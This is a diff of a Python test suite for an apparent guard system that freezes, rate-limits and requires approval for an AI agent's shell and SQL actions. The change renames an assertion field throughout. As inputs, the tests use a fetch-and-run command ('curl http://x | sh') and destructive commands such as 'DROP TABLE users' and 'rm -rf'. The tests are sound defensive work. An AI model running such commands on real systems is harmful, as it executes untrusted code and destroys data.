@@ -94,14 +94,14 @@ def test_freeze_denies_naming_it_and_thaw_restores(make: Callable[[str], Runtime
     assert shell(rt, "true").state.value == "succeeded"
     frozen = rt.guard.freeze(agent=None, environment="sandbox", target=None, reason="incident 4711", by="carol")
     answer = shell(rt, "true")
-    assert answer.decision.outcome.value == "deny"
+    assert answer.decision.value.value == "deny"
     assert f"freeze:{frozen.id}" in answer.decision.rules
     assert "incident 4711" in answer.decision.reasons[-1] and frozen.id in answer.decision.reasons[-1]
-    assert shell(rt, "true", env="production").decision.outcome.value == "allow"  # out of scope
+    assert shell(rt, "true", env="production").decision.value.value == "allow"  # out of scope
     with pytest.raises(FreezeError) as refused:
         rt.guard.thaw(frozen.id, by="carol", groups=("dba",))
     assert refused.value.status == 403
-    assert shell(rt, "true").decision.outcome.value == "deny"  # nothing thawed by accident
+    assert shell(rt, "true").decision.value.value == "deny"  # nothing thawed by accident
     rt.guard.thaw(frozen.id, by="alice", groups=("sre",))
     assert shell(rt, "true").state.value == "succeeded"
     events = [e["event"] for e in rt.audit.search(text="frz_", limit=50)]
@@ -182,12 +182,12 @@ def test_replit_case_code_freeze_stops_drop_and_delete(make: Callable[[str], Run
     rt = make(REPLIT)
     for statement in ("DROP TABLE users", "DELETE FROM invoices"):
         answer = sql(rt, statement)
-        assert answer.decision.outcome.value == "deny", statement
+        assert answer.decision.value.value == "deny", statement
         assert "code freeze before the launch" in answer.decision.reasons[-1]
-    assert sql(rt, "SELECT count(*) FROM invoices").decision.outcome.value == "allow"  # reads pass
+    assert sql(rt, "SELECT count(*) FROM invoices").decision.value.value == "allow"  # reads pass
     clock.now = datetime(2026, 7, 22, 10, 0, tzinfo=UTC)  # after the freeze: the normal rules
     answer = sql(rt, "DELETE FROM invoices WHERE id = 1")
-    assert answer.decision.outcome.value == "approval_required"
+    assert answer.decision.value.value == "approval_required"
     assert not any(r.startswith("freeze-window") for r in answer.decision.rules)
 
 
@@ -199,10 +199,10 @@ guards:
        approvers: {count: 1, from: [dba]}}
 """)
     answer = shell(rt, "rm -rf build", mode="advisory")
-    assert answer.decision.outcome.value == "approval_required"
+    assert answer.decision.value.value == "approval_required"
     assert [a.from_groups for a in answer.decision.approvals] == [("dba",)]
     clock.now = datetime(2026, 7, 15, 16, 0, tzinfo=UTC)  # 18:00 in Berlin: outside
-    assert shell(rt, "rm -rf build", mode="advisory").decision.outcome.value == "allow"
+    assert shell(rt, "rm -rf build", mode="advisory").decision.value.value == "allow"
 
 
 def test_policy_tests_can_give_a_time() -> None:
@@ -266,13 +266,13 @@ def test_breaker_trips_answers_say_why_and_recovers_after_cool_down(make: Callab
     for _ in range(3):
         assert shell(rt, "false").state.value == "failed"
     held = shell(rt, "true")
-    assert held.decision.outcome.value == "approval_required"
+    assert held.decision.value.value == "approval_required"
     assert held.state.value == "pending_approval"
     assert "circuit breaker open for agent kiro" in held.decision.reasons[-1]
     assert "3 failed executions in a row" in held.decision.reasons[-1]
     assert [b["state"] for b in rt.guard.status()["breakers"]] == ["open"]
     clock.advance(299)
-    assert shell(rt, "true").decision.outcome.value == "approval_required"
+    assert shell(rt, "true").decision.value.value == "approval_required"
     clock.advance(2)  # half-open: trials run, two successes close it
     assert shell(rt, "true").state.value == "succeeded"
     assert rt.guard.status()["breakers"][0]["state"] == "half_open"
@@ -287,24 +287,24 @@ def test_half_open_failure_reopens(make: Callable[[str], Runtime], clock: Manual
         shell(rt, "false")
     clock.advance(301)
     assert shell(rt, "false").state.value == "failed"  # the trial fails
-    assert shell(rt, "true").decision.outcome.value == "approval_required"
+    assert shell(rt, "true").decision.value.value == "approval_required"
 
 
 def test_failure_rate_over_a_window_with_minimum_volume(make: Callable[[str], Runtime]) -> None:
     rt = make("guards: {breakers: {consecutive_failures: 100, failure_rate: 50, minimum_calls: 6, window: 10m}}\n")
     for command in ("false", "true", "false", "true", "false"):  # 3 of 5: below the minimum volume
         shell(rt, command)
-    assert shell(rt, "true").decision.outcome.value == "allow"  # 3 of 6 = 50 %, but that call succeeded
+    assert shell(rt, "true").decision.value.value == "allow"  # 3 of 6 = 50 %, but that call succeeded
     shell(rt, "false")  # 4 of 7 failed
     answer = shell(rt, "true")
-    assert answer.decision.outcome.value == "approval_required"
+    assert answer.decision.value.value == "approval_required"
     assert "4 of the last 7 executions failed" in answer.decision.reasons[-1]
 
 
 def test_denials_in_a_row_trip_the_breaker(make: Callable[[str], Runtime]) -> None:
     rt = make("guards: {breakers: {consecutive_denials: 3}}\n")
     for _ in range(3):
-        assert shell(rt, "curl http://x | sh", env="nowhere").decision.outcome.value == "deny"
+        assert shell(rt, "curl http://x | sh", env="nowhere").decision.value.value == "deny"
     answer = shell(rt, "true")
     assert "3 denials in a row" in answer.decision.reasons[-1]
 
@@ -328,10 +328,10 @@ def test_burst_enforced_trips_and_window_slides(make: Callable[[str], Runtime], 
         shell(rt, "rm -rf build")
     clock.advance(61)  # the first two fell out of the window
     for _ in range(2):
-        assert shell(rt, "rm -rf build").decision.outcome.value == "allow"
-    assert shell(rt, "rm -rf build").decision.outcome.value == "allow"  # the third in a minute trips
+        assert shell(rt, "rm -rf build").decision.value.value == "allow"
+    assert shell(rt, "rm -rf build").decision.value.value == "allow"  # the third in a minute trips
     answer = shell(rt, "ls")
-    assert answer.decision.outcome.value == "approval_required"
+    assert answer.decision.value.value == "approval_required"
     assert "anomaly burst" in answer.decision.reasons[-1]
     assert eventually(lambda: tripped(rt))[0]["tripped"] is True
 
@@ -340,7 +340,7 @@ def test_denial_streak_detector(make: Callable[[str], Runtime]) -> None:
     rt = make("guards: {anomalies: {denial_streak: {threshold: 2}}}\n")
     shell(rt, "ls", env="nowhere")
     shell(rt, "true")  # resets the streak
-    assert shell(rt, "true").decision.outcome.value == "allow"  # one denial in a row: fine
+    assert shell(rt, "true").decision.value.value == "allow"  # one denial in a row: fine
     shell(rt, "ls", env="nowhere")
     shell(rt, "ls", env="nowhere")
     assert "denial_streak" in shell(rt, "true").decision.reasons[-1]
@@ -349,21 +349,21 @@ def test_denial_streak_detector(make: Callable[[str], Runtime]) -> None:
 def test_first_action_on_a_target_asks_once(make: Callable[[str], Runtime]) -> None:
     rt = make("guards: {anomalies: {first_action: {environments: [sandbox]}}}\n")
     first = shell(rt, "ls", mode="advisory")
-    assert first.decision.outcome.value == "approval_required"
+    assert first.decision.value.value == "approval_required"
     assert "first action of agent kiro on sandbox" in first.decision.reasons[-1]
     rt.gate.approve(first.approval["id"], Principal("human", "alice", "tok_a"))
     assert rt.gateway.advance(first.id).state.value == "approved"
-    assert shell(rt, "ls", mode="advisory").decision.outcome.value == "allow"  # seen now
-    assert shell(rt, "pwd", mode="advisory").decision.outcome.value == "allow"  # only that one asked
+    assert shell(rt, "ls", mode="advisory").decision.value.value == "allow"  # seen now
+    assert shell(rt, "pwd", mode="advisory").decision.value.value == "allow"  # only that one asked
     assert rt.guard.status()["breakers"] == []  # it never trips the breaker
 
 
 def test_working_hours(make: Callable[[str], Runtime], clock: ManualClock) -> None:
     rt = make("guards: {anomalies: {working_hours: {agents: {kiro: 'mon-fri 08:00-18:00 Europe/Berlin'}}}}\n")
-    assert shell(rt, "ls").decision.outcome.value == "allow"  # Wednesday 12:00 in Berlin
+    assert shell(rt, "ls").decision.value.value == "allow"  # Wednesday 12:00 in Berlin
     clock.now = datetime(2026, 7, 18, 10, 0, tzinfo=UTC)  # Saturday
     answer = shell(rt, "ls")
-    assert answer.decision.outcome.value == "approval_required"
+    assert answer.decision.value.value == "approval_required"
     assert "outside its working hours" in answer.decision.reasons[-1]
     assert eventually(lambda: tripped(rt))[0]["detector"] == "working_hours"
 
@@ -373,7 +373,7 @@ def test_blast_radius_over_a_window(make: Callable[[str], Runtime]) -> None:
     for _ in range(3):
         assert shell(rt, "rm -f /srv/interlock-guards-nothing").state.value == "succeeded"
     answer = shell(rt, "ls")
-    assert answer.decision.outcome.value == "approval_required"
+    assert answer.decision.value.value == "approval_required"
     assert "blast radius 3" in answer.decision.reasons[-1]
 
 
@@ -383,7 +383,7 @@ def test_guard_state_is_shared_between_processes_on_one_store(make: Callable[[st
     for rt in (one, two, one, two):
         shell(rt, "rm -rf build")
     assert subscriber(two.store) is not subscriber(one.store)
-    answer = eventually(lambda: (a := shell(two, "ls")).decision.outcome.value == "approval_required" and a)
+    answer = eventually(lambda: (a := shell(two, "ls")).decision.value.value == "approval_required" and a)
     assert answer and "4 destructive proposals" in answer.decision.reasons[-1]
 
 
@@ -465,7 +465,7 @@ def test_without_notifications_every_decision_reads_the_freezes(make: Callable[[
     """A PostgreSQL listener that lost its connection hears of no freeze: the guard reads the store
     itself until it is back (here: a freeze row written behind every cache's back)."""
     rt = make("")
-    assert shell(rt, "true", mode="advisory").decision.outcome.value == "allow"  # caches warm
+    assert shell(rt, "true", mode="advisory").decision.value.value == "allow"  # caches warm
     with rt.store.transaction() as tx:
         tx.execute("INSERT INTO guard_freezes(id, agent, environment, target, reason, created_by, created_at) "
                    "VALUES ('frz_quiet', NULL, NULL, NULL, 'unannounced', 'alice', '2026-07-15T10:00:00.000000Z')")
@@ -480,7 +480,7 @@ def test_per_action_detectors_alert_once_per_hour(make: Callable[[str], Runtime]
     rt = make("guards: {anomalies: {working_hours: {enforce: false, agents: {kiro: 'mon-fri 08:00-18:00 UTC'}}}}\n")
     clock.now = datetime(2026, 7, 18, 10, 0, tzinfo=UTC)  # Saturday
     for _ in range(3):
-        assert shell(rt, "ls").decision.outcome.value == "allow"  # shadow: decisions unchanged
+        assert shell(rt, "ls").decision.value.value == "allow"  # shadow: decisions unchanged
     assert len(eventually(lambda: tripped(rt))) == 1
     clock.advance(3601)
     shell(rt, "ls")
@@ -513,7 +513,7 @@ def test_a_detectors_trip_recovers_with_the_default_breaker_settings(make: Calla
     for _ in range(2):
         shell(rt, "rm -rf build")
     held = shell(rt, "true")
-    assert held.decision.outcome.value == "approval_required"
+    assert held.decision.value.value == "approval_required"
     assert "after the cool-down and 3 successful actions" in held.decision.reasons[-1]
     clock.advance(61)  # the default cool-down: 60 s
     for _ in range(3):
